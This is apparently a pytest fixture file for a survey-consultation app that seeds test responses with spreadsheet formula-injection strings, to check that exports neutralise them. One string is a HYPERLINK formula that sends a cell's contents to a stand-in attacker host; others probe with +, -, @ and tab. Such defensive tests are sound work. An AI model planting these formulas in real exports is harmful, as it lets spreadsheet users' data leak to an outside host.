from __future__ import annotations

from datetime import UTC, datetime

import pytest

from safevoice.consultations.models import Consultation
from safevoice.questionnaires.tests.factories import make_consultation
from safevoice.responses.models import Response
from safevoice.responses.services import exclude_response
from safevoice.responses.tests.test_selectors import submit

#: Free text a spreadsheet would run as a formula, each with a different trigger character.
FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTabbed"]


@pytest.fixture
def answered(db) -> Consultation:
    """Three responses to the every-type test survey (one with formula text, one excluded from analysis), sent
    at 23:30 UTC on 1 July 2026: 00:30 on 2 July in the UK."""
    consultation, _ = make_consultation()
    submit(
        consultation,
        {
            "affected_how": ["victim", "other"],
            "affected_how__other": FORMULAS[2],
            "reported": "no",
            "why_not": FORMULAS[0],
            "feel_safe": "agree",
            "places": {"town_centre": "agree", "parks": "disagree"},
            "area": {"unitary": "E06000061", "former_district": "E07000153"},
            "age": 34,
            "last_visit": "2026-05-01",
            "nickname": FORMULAS[1],
            "anything_else": "Café lighting – “better” please",
        },
    )
    submit(
        consultation,
        {"affected_how": ["not_affected"], "nickname": FORMULAS[4], "anything_else": FORMULAS[3]},
    )
    submit(consultation, {"affected_how": ["witness"], "nickname": "Left out"})
    Response.objects.update(submitted_at=datetime(2026, 7, 1, 23, 30, 17, tzinfo=UTC))
    exclude_response(
        response=Response.objects.get(answers__nickname="Left out"), reason="A test", actor="lead"
    )
    return consultation
